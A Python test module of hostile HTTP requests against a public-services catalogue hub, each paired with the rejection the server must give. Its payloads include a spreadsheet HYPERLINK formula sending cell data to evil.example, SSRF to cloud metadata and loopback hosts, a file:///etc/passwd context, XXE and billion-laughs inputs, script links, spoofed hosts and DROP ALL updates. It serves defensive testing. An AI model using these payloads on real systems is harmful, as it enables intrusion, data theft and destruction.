"""The hostile requests of issue 12, one typed record each: what is sent (method, path, who,
headers, body) and what the hub must answer (status, problem code, a fragment of its detail).
The records the cases aim at are set up by the module's fixture (:mod:`tests.hostile.server`):

- ``ASP-7001``  a draft of the public services agency (ASP), never published;
- ``ASP-7002``  published by ASP (version 1), with a draft version 2 over it;
- ``CNAS-7003`` a draft of the social insurance house (CNAS);
- ``ASP-7004``  published, its title a spreadsheet formula (it was sent as CSV).

Codes 71xx are sent by the cases and must never be stored."""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field

import httpx

from tests.builders import passport
from tests.hostile import bodies as b

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
SPARQL = "/sparql"
SERVICES = "/api/v1/services"
IMPORT = "/api/v1/import"
TURTLE = {"Content-Type": "text/turtle"}
JSON = {"Content-Type": "application/json"}
CSV = {"Content-Type": "text/csv"}
NQUADS = {"Content-Type": "application/n-quads"}


@dataclass(frozen=True)
class Ctx:
    """What a case may refer to: the server, the tokens (by name) and the setup's ETags."""

    url: str
    port: int
    tokens: Mapping[str, str]
    etags: Mapping[str, str]


Body = bytes | Callable[[Ctx], bytes]
Check = Callable[[httpx.Response, Ctx], None]


@dataclass(frozen=True)
class Case:
    """One hostile request and the answer it must get. ``who`` names a token of
    :attr:`Ctx.tokens`; ``if_match`` a record whose setup ETag goes in ``If-Match``; ``{port}``
    in ``path`` or a parameter is the hub's port. ``code`` is the problem's code (its ``type``
    is ``urn:semcat:problem:{code}``); None for an answer that is not an error, which ``check``
    then examines."""

    name: str
    method: str
    path: str
    expect: tuple[int, ...]
    code: str | None
    detail: str = ""
    who: str | None = None
    headers: Mapping[str, str] = field(default_factory=dict)
    params: Mapping[str, str] = field(default_factory=dict)
    body: Body = b""
    if_match: str | None = None
    check: Check | None = None
    raw: bool = False  # sent as written: no Content-Length of its own, no header checks


def sparql(name: str, query: str, expect: int, code: str, detail: str = "", **params: str
           ) -> Case:
    return Case(name, "GET", SPARQL, (expect,), code, detail, params={"query": query, **params})


def write(name: str, body: Body, headers: Mapping[str, str], expect: int, code: str,
          detail: str = "", *, path: str = SERVICES, who: str = "asp", method: str = "POST",
          if_match: str | None = None) -> Case:
    return Case(name, method, path, (expect,), code, detail, who=who, headers=headers,
                body=body, if_match=if_match)


# --- checks of answers that are not errors ----------------------------------------------------
def no_evil_host(r: httpx.Response, _: Ctx) -> None:
    assert "evil.example" not in r.headers.get("location", ""), r.headers
    assert "evil.example" not in r.text


def formula_is_exported_as_text(r: httpx.Response, _: Ctx) -> None:
    text = r.content.decode("utf-8-sig")
    [row] = [line for line in text.splitlines() if line.startswith("ASP-7004,")]
    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""x"")"' in row, row


def formula_is_stored_as_text(r: httpx.Response, _: Ctx) -> None:
    assert r.json()["title"]["ro"] == FORMULA


SPARQL_CASES = [
    sparql("sparql-service-loopback", "SELECT * WHERE { SERVICE <http://127.0.0.1:{port}/sparql>"
           " { ?s ?p ?o } }", 400, "query_rejected", "SERVICE"),
    sparql("sparql-service-metadata-host", "SELECT * WHERE { ?s ?p ?o . SERVICE SILENT "
           "<http://169.254.169.254/latest/meta-data/> { ?s ?q ?r } }", 400, "query_rejected",
           "SERVICE"),
    sparql("sparql-service-variable", "SELECT * WHERE { BIND(<http://127.0.0.1:22/> AS ?e) "
           "OPTIONAL { SERVICE ?e { ?s ?p ?o } } }", 400, "query_rejected", "SERVICE"),
    sparql("sparql-load-as-query", "LOAD <http://127.0.0.1:{port}/api/v1/dump>", 400,
           "query_rejected", "read-only"),
    sparql("sparql-insert-as-query", 'INSERT DATA { <urn:x> <urn:y> "z" }', 400,
           "query_rejected", "read-only"),
    sparql("sparql-delete-where-as-query", "DELETE WHERE { GRAPH ?g { ?s ?p ?o } }", 400,
           "query_rejected", "read-only"),
    Case("sparql-update-parameter", "POST", SPARQL, (403,), "forbidden",
         headers={"Content-Type": "application/x-www-form-urlencoded"},
         body=b"update=CLEAR+ALL"),
    Case("sparql-update-body", "POST", SPARQL, (403, 415), None,
         headers={"Content-Type": "application/sparql-update"}, body=b"DROP ALL"),
    sparql("sparql-over-cap-without-paging", "SELECT * WHERE { GRAPH ?g { ?s ?p ?o } }", 400,
           "query_rejected", "LIMIT"),
    sparql("sparql-construct-over-cap", "CONSTRUCT { ?s ?p ?o } WHERE { GRAPH ?g { ?s ?p ?o } }",
           400, "query_rejected", "LIMIT"),
    sparql("sparql-offset-past-cap", "SELECT * WHERE { ?s ?p ?o } OFFSET 100000000", 400,
           "query_rejected", "OFFSET"),
    sparql("sparql-deep-nesting", "SELECT * WHERE " + "{ " * 200 + "?s ?p ?o" + " }" * 200,
           400, "invalid_input", "nested more than 64 levels deep"),
    sparql("sparql-deep-expression", "SELECT * WHERE { ?s ?p ?o FILTER(" + "(" * 500 + "1"
           + ")" * 500 + ") }", 400, "invalid_input", "levels deep"),
    Case("sparql-huge-query", "POST", SPARQL, (413,), "too_large",
         headers={"Content-Type": "application/sparql-query"},
         body=("ASK { ?s ?p ?o }" + " # padding" * 10_000).encode()),
    sparql("sparql-syntax-error", "SELECT ?s WHERE { ?s ?p }}", 400, "query_rejected"),
    Case("sparql-query-not-utf8", "GET", SPARQL + "?query=ASK%20%7B%FF%FE%7D", (400,),
         "invalid_input", "UTF-8"),
    sparql("sparql-default-graph-uri-not-an-iri", "ASK { ?s ?p ?o }", 400, "invalid_input",
           "default-graph-uri", **{"default-graph-uri": "not an iri"}),
    sparql("sparql-named-graph-uri-with-spaces", "ASK { ?s ?p ?o }", 400, "invalid_input",
           "named-graph-uri", **{"named-graph-uri": "http://e/a b>"}),
    sparql("sparql-default-graph-uri-huge", "ASK { ?s ?p ?o }", 400, "invalid_input",
           "default-graph-uri", **{"default-graph-uri": "http://e/" + "a" * 5000}),
    Case("sparql-accept-image", "GET", SPARQL, (406,), "not_acceptable",
         headers={"Accept": "image/png"}, params={"query": "SELECT * WHERE { ?s ?p ?o } LIMIT 1"}),
    sparql("sparql-format-unknown", "ASK { ?s ?p ?o }", 406, "not_acceptable", format="exe"),
    Case("sparql-content-type-unknown", "POST", SPARQL, (415,), "unsupported_media_type",
         headers={"Content-Type": "application/x-evil"}, body=b"ASK {}"),
    Case("sparql-two-queries", "GET", SPARQL + "?query=ASK%7B%7D&query=SELECT%20*%7B%7D",
         (400,), None),
]

RDF_CASES = [
    write("turtle-unclosed-quoted-triples", b.TURTLE_UNCLOSED_QUOTED, TURTLE, 400,
          "invalid_input", "levels deep"),
    write("turtle-deep-blank-nodes", b.TURTLE_DEEP_BLANKS, TURTLE, 400, "invalid_input",
          "nested more than 64 levels deep"),
    write("turtle-deep-collections", b.TURTLE_DEEP_LISTS, TURTLE, 400, "invalid_input",
          "nested more than 64 levels deep"),
    write("turtle-invalid-utf8", b'<http://e/s> <http://e/p> "\xff\xfe" .', TURTLE, 400,
          "invalid_input", "UTF-8"),
    write("turtle-malformed", b.rdf(passport("ASP-7104"), "turtle") + b"\n<a> <b> \"open .\n",
          TURTLE, 400, "invalid_input"),
    write("turtle-server-owned-status", b.rdf(passport("ASP-7105"), "turtle",
                                              (b.STATUS_COMPLETED,)),
          TURTLE, 422, "invalid_record", "the server sets"),
    write("turtle-literal-1.5-mb", b.turtle_with_literal_bytes("ASP-7106", 1_500_000), TURTLE,
          400, "invalid_input", "SEMCAT_MAX_LITERAL_BYTES"),
    write("turtle-too-many-triples", b.turtle_with_keywords("ASP-7107", 20_000), TURTLE, 413,
          "too_large", "SEMCAT_MAX_RECORD_TRIPLES"),
    write("turtle-over-the-body-cap", b"# " + b"x" * (3 << 20), TURTLE, 413, "too_large"),
    write("turtle-describes-another-service",
          b.rdf(passport("ASP-7108"), "turtle") + b.rdf(passport("ASP-0001"), "turtle"),
          TURTLE, 422, "invalid_record"),
    write("rdfxml-dtd", b.XML_DTD, {"Content-Type": "application/rdf+xml"}, 400,
          "unsafe_input", "DOCTYPE"),
    write("rdfxml-xxe", b.XXE, {"Content-Type": "application/rdf+xml"}, 400, "unsafe_input",
          "DOCTYPE"),
    write("rdfxml-xxe-utf16", b.XXE_UTF16, {"Content-Type": "application/rdf+xml"}, 400,
          "unsafe_input"),
    write("rdfxml-external-parameter-entity", b.XXE_PARAMETER,
          {"Content-Type": "application/rdf+xml"}, 400, "unsafe_input", "DOCTYPE"),
    write("rdfxml-billion-laughs", b.BILLION_LAUGHS, {"Content-Type": "application/rdf+xml"},
          400, "unsafe_input", "DOCTYPE"),
    write("rdfxml-server-owned-publisher", b.rdf(passport("ASP-7109"), "rdfxml", (b.PUBLISHER,)),
          {"Content-Type": "application/rdf+xml"}, 422, "invalid_record", "the server sets"),
    write("jsonld-remote-context-loopback",
          lambda ctx: b.jsonld_context(f"http://127.0.0.1:{ctx.port}/api/v1/schema/"
                                       "passport.json"),
          {"Content-Type": "application/ld+json"}, 400, "unsafe_input", "never loaded"),
    write("jsonld-file-context", b.jsonld_context("file:///etc/passwd"),
          {"Content-Type": "application/ld+json"}, 400, "unsafe_input", "never loaded"),
    write("jsonld-context-import", b.jsonld_context({"@import": "http://169.254.169.254/c"}),
          {"Content-Type": "application/ld+json"}, 400, "unsafe_input"),
    write("jsonld-deep", b.JSONLD_DEEP, {"Content-Type": "application/ld+json"}, 400,
          "invalid_input", "levels deep"),
    write("ntriples-javascript-iri", b.rdf(passport("ASP-7110"), "ntriples", (b.JAVASCRIPT,)),
          {"Content-Type": "application/n-triples"}, 400, "invalid_input", "javascript"),
    write("nquads-import-into-another-institutions-record",
          b.quads({b.SVC + "CNAS-7003": b.cnas("CNAS-7003", title_ro="Preluat")}, "nquads"),
          NQUADS, 403, "forbidden", path=IMPORT),
    write("trig-import-names-a-graph-of-another-record",
          b.quads({b.SVC + "ASP-0001": passport("ASP-7111")}, "trig"),
          {"Content-Type": "application/trig"}, 400, "invalid_input", "does not describe",
          path=IMPORT),
    write("nquads-import-graph-states-about-another-record",
          b.quads({b.SVC + "ASP-7141": passport("ASP-7141")}, "nquads")
          + f'<{b.SVC}ASP-0001> <http://purl.org/dc/terms/title> "Preluat"@ro '
            f'<{b.SVC}ASP-7141> .\n'.encode(), NQUADS, 422, "invalid_record", path=IMPORT),
    write("nquads-import-two-services-in-one-graph",
          b.quads({b.SVC + "ASP-7112": passport("ASP-7112")}, "nquads")
          + b.quads({b.SVC + "ASP-7112": passport("ASP-7113")}, "nquads"),
          NQUADS, 422, "invalid_record", path=IMPORT),
    write("import-in-an-unknown-media-type", b.quads({b.SVC + "ASP-7115": passport("ASP-7115")},
                                                       "nquads"),
          {"Content-Type": "application/x-evil"}, 415, "unsupported_media_type",
          "application/x-ndjson", path=IMPORT),
    Case("validate-in-an-unknown-media-type", "POST", "/api/v1/validate", (415,),
         "unsupported_media_type", "text/turtle", headers={"Content-Type": "text/plain"},
         body=b"<http://e/a> <http://e/b> <http://e/c> ."),
]

JSON_CASES = [
    write("json-deep-nesting", b.JSON_DEEP, JSON, 400, "invalid_input", "levels deep"),
    write("json-deep-list", b.JSON_DEEP_LIST, JSON, 400, "invalid_input", "levels deep"),
    write("json-huge-integer", b.JSON_HUGE_INT, JSON, 400, "invalid_input", "4300 digits"),
    write("json-nan-cost", b.json_with("ASP-7114", costs=[{**b.as_dict(passport("ASP-7114"))[
        "costs"][0], "value": float("nan")}]), JSON, 422, "invalid_record"),
    write("json-bad-iri-authority", b.json_with("ASP-7115", competent_authority="http://exa mple/"
                                                "<script>"), JSON, 422, "invalid_record"),
    write("json-javascript-link", b.with_channel_url("ASP-7116", "javascript:alert(1)"), JSON,
          422, "invalid_record"),
    write("json-data-link", b.with_channel_url("ASP-7117", "data:text/html,<script>x</script>"),
          JSON, 422, "invalid_record"),
    write("json-server-owned-status", b.json_with("ASP-7118", status="published"), JSON, 422,
          "invalid_record"),
    write("json-server-owned-publisher", b.json_with("ASP-7119", publisher=b.ORG + "cnas"), JSON,
          422, "invalid_record"),
    write("json-nul-in-title", b.json_with("ASP-7120", title={"ro": "a\x00b", "en": "x"}), JSON,
          400, "invalid_input"),
    write("json-lone-surrogate", b.json_with("ASP-7121", title={"ro": "x", "en": "x"}).replace(
        b'"ro": "x"', b'"ro": "a\\udc00b"'), JSON, 400, "invalid_input"),
    write("json-bidi-override-title", b.json_with("ASP-7122", title={
        "ro": "Cerere\u202efals", "en": "x"}), JSON, 400, "invalid_input", "U+202E"),
    write("json-wrong-types", b.json_with("ASP-7123", title=42, keywords="x", costs={}), JSON, 422,
          "invalid_record"),
    write("json-not-an-object", b"[1, 2, 3]", JSON, 400, "invalid_input"),
    write("json-invisible-char-in-code", b.json_with("ASP-7124", code="ASP-71\u200b24"), JSON,
          400, "invalid_input", "U+200B"),
    write("json-code-in-path-and-body-differ", b.as_json(passport("ASP-7125")), JSON, 400,
          "invalid_input", "must describe", path=SERVICES + "/ASP-7001", method="PUT",
          if_match="ASP-7001"),
]

CSV_CASES = [
    write("csv-utf16", b.csv(passport("ASP-7126")).decode("utf-8-sig").encode("utf-16"), CSV,
          400, "invalid_input", "UTF-8"),
    write("csv-latin1", b.csv_cell("ASP-7127", "Școala").decode().replace("Ș", "S").replace(
        "coala", "coală").encode("latin-1", errors="replace").replace(b"?", b"\xe3"), CSV, 400,
          "invalid_input", "UTF-8"),
    write("csv-huge-cell", b.csv_cell("ASP-7128", "x" * 200_000), CSV, 400, "invalid_input"),
    write("csv-too-many-columns", b.csv_columns("ASP-7129", 1_200), CSV, 413, "too_large",
          "1000 columns"),
    write("csv-nul", b.csv_cell("ASP-7130", "a\x00b"), CSV, 422, "invalid_record"),
    write("csv-two-rows-to-one-record", b.csv(passport("ASP-7131"), passport("ASP-7132")), CSV,
          400, "invalid_input", "one passport"),
    Case("csv-formula-is-exported-as-text", "GET", SERVICES, (200,), None,
         params={"format": "csv", "authority": "asp"}, check=formula_is_exported_as_text),
    Case("csv-formula-is-stored-as-text", "GET", SERVICES + "/ASP-7004", (200,), None,
         check=formula_is_stored_as_text),
]

HEADER_CASES = [
    Case("host-spoofed-on-a-slash-redirect", "GET", SERVICES + "/", (307, 308, 404), None,
         headers={"Host": "evil.example"}, check=no_evil_host),
    Case("forwarded-headers-from-an-untrusted-peer", "GET", "/sparql/", (307, 308, 404), None,
         headers={"X-Forwarded-For": "203.0.113.7", "X-Forwarded-Host": "evil.example",
                  "X-Forwarded-Proto": "https", "Forwarded": "host=evil.example;proto=https"},
         check=no_evil_host),
    Case("host-spoofed-service-description", "GET", SPARQL, (200,), None,
         headers={"Host": "evil.example", "Accept": "text/turtle"}, check=no_evil_host),
    write("content-type-unknown", b.as_json(passport("ASP-7133")),
          {"Content-Type": "application/x-evil"}, 415, "unsupported_media_type", "x-evil"),
    write("content-type-unknown-on-patch", b'{"title": {"ro": "x"}}', {"Content-Type":
          "text/html"}, 415, "unsupported_media_type", path=SERVICES + "/ASP-7001",
          method="PATCH", if_match="ASP-7001"),
    write("content-type-missing-charset-utf16-json",
          b.as_json(passport("ASP-7134")).decode().encode("utf-16"),
          {"Content-Type": "application/json; charset=utf-16"}, 400, "invalid_input"),
    Case("accept-absurd", "GET", SERVICES + "/ASP-0001", (406,), "not_acceptable",
         headers={"Accept": "application/x-" + "a" * 4000}),
    Case("if-none-match-huge", "GET", SERVICES + "/ASP-0001", (200,), None,
         headers={"If-None-Match": ", ".join(['"x"'] * 2000)}),
    Case("content-length-absurd", "POST", SERVICES, (413,), "too_large", who="asp", raw=True,
         headers={**JSON, "Content-Length": "99999999999"}, body=b"{}"),
    Case("content-length-absurd-sparql", "POST", SPARQL, (413,), "too_large", raw=True,
         headers={"Content-Type": "application/sparql-query", "Content-Length": str(10**12)},
         body=b"ASK {}"),
    Case("content-length-negative", "POST", SERVICES, (400,), "invalid_request", who="asp",
         raw=True, headers={**JSON, "Content-Length": "-5"}, body=b"{}"),
    Case("header-huge", "GET", SERVICES + "/ASP-0001", (431,), "too_large", raw=True,
         headers={"Cookie": "a" * (4 << 20)}),
    Case("headers-many", "GET", SERVICES + "/ASP-0001", (431,), "too_large", raw=True,
         headers={f"X-H{n}": "v" * 10 for n in range(40_000)}),
    Case("url-huge", "GET", "/api/v1/search?q=" + "x" * (4 << 20), (431,), "too_large",
         raw=True),
    Case("query-string-huge", "GET", "/api/v1/search", (400,), "invalid_input",
         params={"q": "x" * 60_000}),
]

AUTH_CASES = [
    write("auth-none", b.as_json(passport("ASP-7135")), JSON, 401, "unauthenticated",
          who="none"),
    write("auth-invalid-token", b.as_json(passport("ASP-7136")), JSON, 401, "unauthenticated",
          who="forged"),
    write("auth-revoked-token", b.as_json(passport("ASP-7137")), JSON, 401, "unauthenticated",
          "revoked", who="revoked"),
    Case("auth-basic-scheme", "POST", SERVICES, (401,), "unauthenticated",
         headers={"Authorization": "Basic YWRtaW46YWRtaW4=", **JSON},
         body=b.as_json(passport("ASP-7138"))),
    Case("auth-huge-token", "POST", SERVICES, (401,), "unauthenticated",
         headers={"Authorization": "Bearer " + "a" * 6000, **JSON},
         body=b.as_json(passport("ASP-7139"))),
    write("auth-another-institutions-token", b.as_json(passport("ASP-7140")), JSON, 403,
          "forbidden", who="cnas"),
    Case("auth-publisher-reads-the-audit-log", "GET", "/api/v1/audit", (403,), "forbidden",
         who="asp"),
    Case("auth-publisher-subscribes", "POST", "/api/v1/subscriptions", (403,), "forbidden",
         who="asp", headers=JSON, body=json.dumps({"url": "http://127.0.0.1:{port}/",
                                                   "kinds": ["service"]}).encode()),
    write("auth-publisher-publishes-its-own", b"", {}, 403, "forbidden",
          path=SERVICES + "/ASP-7001/publish", if_match="ASP-7001"),
]

OWNERSHIP_CASES = [
    write("owner-patch-another-institutions-draft", b'{"title": {"ro": "Preluat"}}',
          {"Content-Type": "application/merge-patch+json"}, 403, "forbidden", who="cnas",
          path=SERVICES + "/ASP-7001", method="PATCH", if_match="ASP-7001"),
    write("owner-put-another-institutions-record", b.as_json(passport("ASP-7002")), JSON, 403,
          "forbidden", who="cnas", path=SERVICES + "/ASP-7002", method="PUT",
          if_match="ASP-7002"),
    write("owner-delete-another-institutions-record", b"", {}, 405, "http_405", who="cnas",
          path=SERVICES + "/ASP-7002", method="DELETE", if_match="ASP-7002"),
    write("owner-withdraw-another-institutions-record", b"", {}, 403, "forbidden", who="cnas",
          path=SERVICES + "/ASP-7002/withdraw", if_match="ASP-7002@1"),
    write("owner-submit-another-institutions-draft", b"", {}, 403, "forbidden", who="cnas",
          path=SERVICES + "/ASP-7001/submit", if_match="ASP-7001"),
    write("owner-import-over-another-institutions-record",
          b.as_json(passport("ASP-7002", title_ro="Preluat")), {"Content-Type":
                                                                "application/x-ndjson"},
          403, "forbidden", who="cnas", path=IMPORT),
    Case("owner-read-another-institutions-draft-version", "GET", SERVICES + "/ASP-7002",
         (404,), "not_found", "no published version 2", who="cnas", params={"version": "2"}),
    Case("owner-read-another-institutions-draft-other-way", "GET", SERVICES + "/CNAS-7003",
         (404,), "not_found", who="asp", params={"version": "1"}),
    Case("owner-read-a-draft-anonymously", "GET", SERVICES + "/ASP-7001", (404,), "not_found",
         params={"version": "latest"}),
    Case("owner-diff-into-another-institutions-draft", "GET", SERVICES + "/ASP-7002/diff",
         (404,), "not_found", who="cnas", params={"from": "1", "to": "2"}),
]

CASES: list[Case] = (SPARQL_CASES + RDF_CASES + JSON_CASES + CSV_CASES + HEADER_CASES
                     + AUTH_CASES + OWNERSHIP_CASES)
